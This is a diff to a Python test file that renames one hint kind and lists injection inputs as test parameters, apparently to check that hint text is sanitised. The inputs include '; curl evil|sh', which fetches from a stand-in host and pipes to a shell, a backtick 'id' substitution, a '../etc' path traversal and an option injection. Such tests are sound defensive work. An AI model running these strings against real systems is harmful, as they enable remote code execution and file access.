@@ -62,7 +62,7 @@ def test_every_kind_has_a_text() -> None:
     "hint",
     [
         Hint(HintKind.DEPLOY, "; curl evil|sh"),
-        Hint(HintKind.THAW_AS_ROOT, "blog"),
+        Hint(HintKind.THAW, "blog"),
         Hint(HintKind.SHOW_DISK_SPACE, "/srv `id`"),
         Hint(HintKind.SHOW_DISK_SPACE, "/srv/../etc"),
         Hint(HintKind.SHOW_DISK_SPACE, "/srv --output"),
